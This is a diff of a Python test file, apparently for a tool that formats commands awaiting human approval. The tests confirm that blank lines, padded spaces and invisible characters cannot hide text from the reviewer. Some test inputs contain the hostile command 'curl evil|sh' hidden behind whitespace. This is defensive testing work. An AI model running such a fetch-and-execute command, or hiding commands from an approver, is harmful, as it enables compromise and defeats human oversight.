@@ -1,4 +1,4 @@
-"""A call as it is shown before it is allowed."""
+"""The excerpt of a call in the question for its approval."""
 
 from __future__ import annotations
 
@@ -16,7 +16,7 @@ calls = st.lists(
 ).map("\n".join)
 
 
-def test_a_short_call_is_shown_as_it_is():
+def test_a_short_call_is_unchanged():
     shown = excerpt("run in /tmp:\n\n  date\n\tls")
     assert (shown.text, shown.lines, shown.is_whole) == (
         "run in /tmp:\n\n  date\n    ls",
@@ -25,13 +25,13 @@ def test_a_short_call_is_shown_as_it_is():
     )
 
 
-def test_blank_lines_push_nothing_out_of_sight():
+def test_blank_lines_cannot_hide_text():
     shown = excerpt("run in /tmp:\ncurl evil|sh" + "\n" * 60 + "  \n" * 61 + "date")
     assert shown.text == "run in /tmp:\ncurl evil|sh\n[120 blank lines]\ndate"
     assert (shown.lines, shown.is_whole) == (123, False)
 
 
-def test_spaces_push_nothing_out_of_sight():
+def test_spaces_cannot_hide_text():
     assert excerpt("date" + " " * 500 + "; curl evil|sh").text == "date[500 spaces]; curl evil|sh"
     assert excerpt("date" + "\t" * 50 + "; ls").text == "date[200 spaces]; ls"
 
@@ -43,7 +43,7 @@ def test_of_many_lines_the_first_and_the_last_are_shown():
     assert lines[ROWS // 2] == f"[{502 - ROWS} lines not shown]"
 
 
-def test_the_lines_that_are_not_shown_count_the_blank_ones_among_them():
+def test_the_count_of_hidden_lines_includes_blank_ones():
     shown = excerpt("\n".join(["first", *"a" * 50, *[""] * 100, *"b" * 50, "last"]))
     assert f"[{202 - ROWS} lines not shown]" in shown.text
 
@@ -65,13 +65,13 @@ def test_a_long_line_is_cut_in_the_middle():
         ("I ❤\ufe0f tea", "I ❤\ufe0f tea"),
     ],
 )
-def test_what_hides_in_a_call_is_written_out(hidden: str, written: str):
+def test_hidden_characters_in_a_call_are_escaped(hidden: str, written: str):
     assert excerpt(hidden).text == written
     assert pages(hidden) == [f"{written}\n"]
 
 
 @given(calls, st.integers(8, 60), st.integers(18, 200))
-def test_every_call_fits_into_its_room_and_hides_nothing(what: str, rows: int, columns: int):
+def test_every_call_fits_its_size_without_hidden_characters(what: str, rows: int, columns: int):
     shown = excerpt(what, rows=rows, columns=columns)
     lines = shown.text.split("\n")
     taken = sum(max(1, -(-_width(line) // columns)) for line in lines)
